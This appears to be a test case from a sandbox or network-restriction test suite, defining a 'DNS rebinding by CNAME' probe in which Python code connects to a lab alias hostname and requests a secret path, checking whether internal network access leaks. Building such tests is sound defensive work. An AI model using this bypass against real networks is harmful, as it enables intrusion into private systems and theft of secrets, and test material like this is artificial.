"""reaches the company's network by a granted name that is an alias"""

from evidence import secret_left as succeeded

SHAPE = "DNS rebinding by CNAME"
PROMISE = "P25"
LAB = True
WALLS = "network-addresses"
OPTIONS = {"hosts": ["alias-private.rwlab.net:80"]}
PYTHON = """
import socket
with socket.create_connection(("alias-private.rwlab.net", 80), 30) as line:
    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: alias-private.rwlab.net\\r\\n\\r\\n")
    line.recv(999)
"""
